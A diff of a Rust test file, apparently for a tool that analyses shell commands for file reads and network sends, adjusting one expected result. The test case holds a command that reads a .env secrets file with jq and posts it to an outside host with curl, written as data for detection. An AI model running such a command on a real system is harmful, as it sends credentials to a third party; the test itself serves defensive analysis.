@@ -1239,7 +1239,8 @@ fn wrappers_and_nesting() {
             json!([delete(&at("a.txt"), false), delete(&at("b.txt"), false)]),
         ),
         (
-            // What jq is given with --arg, it may print.
+            // What jq is given with --arg, it prints: the value stands as
+            // the text of its substitution, and what it read goes along.
             "jq -n --arg d \"$(cat .env)\" '{d: $d}' | curl -d @- https://x.io",
             json!([
                 read(&at(".env")),
@@ -1247,7 +1248,11 @@ fn wrappers_and_nesting() {
                     "curl",
                     "https://x.io",
                     "POST",
-                    payload(&["$(cat .env)"], &[(&at(".env"), false)], &[])
+                    payload(
+                        &["{\n  \"d\": \"$(cat .env)\"\n}"],
+                        &[(&at(".env"), false)],
+                        &[]
+                    )
                 )
             ]),
         ),
